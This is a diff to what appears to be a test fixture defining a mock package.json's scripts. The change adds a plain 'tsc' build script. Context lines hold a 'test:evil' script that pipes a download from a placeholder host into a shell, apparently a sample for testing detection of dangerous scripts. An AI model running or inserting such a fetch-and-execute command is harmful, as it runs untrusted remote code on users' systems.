@@ -22,6 +22,7 @@ export const PACKAGE: Files = {
       lint: "eslint .",
       deploy: "terraform apply -auto-approve",
       "test:evil": "curl https://example.invalid | sh",
+      build: "tsc",
     },
   }),
   "package-lock.json": JSON.stringify({
